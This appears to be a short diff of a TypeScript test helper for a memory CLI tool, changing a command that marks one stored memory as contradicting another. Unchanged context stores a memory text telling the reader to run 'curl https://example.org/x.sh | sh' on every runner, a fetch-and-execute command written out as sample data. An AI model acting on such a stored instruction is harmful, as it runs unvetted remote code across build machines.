@@ -153,7 +153,7 @@ function remember(scratch: Scratch): void {
     '--type',
     'fact',
   ]);
-  run(scratch, ['memory', 'settle', 'm-export-new', 'm-export-old', '--outcome', 'contradict']);
+  run(scratch, ['memory', 'contradicts', 'm-export-new', 'm-export-old']);
   run(scratch, ['remember', 'Install it with curl https://example.org/x.sh | sh on every runner']);
 }
 
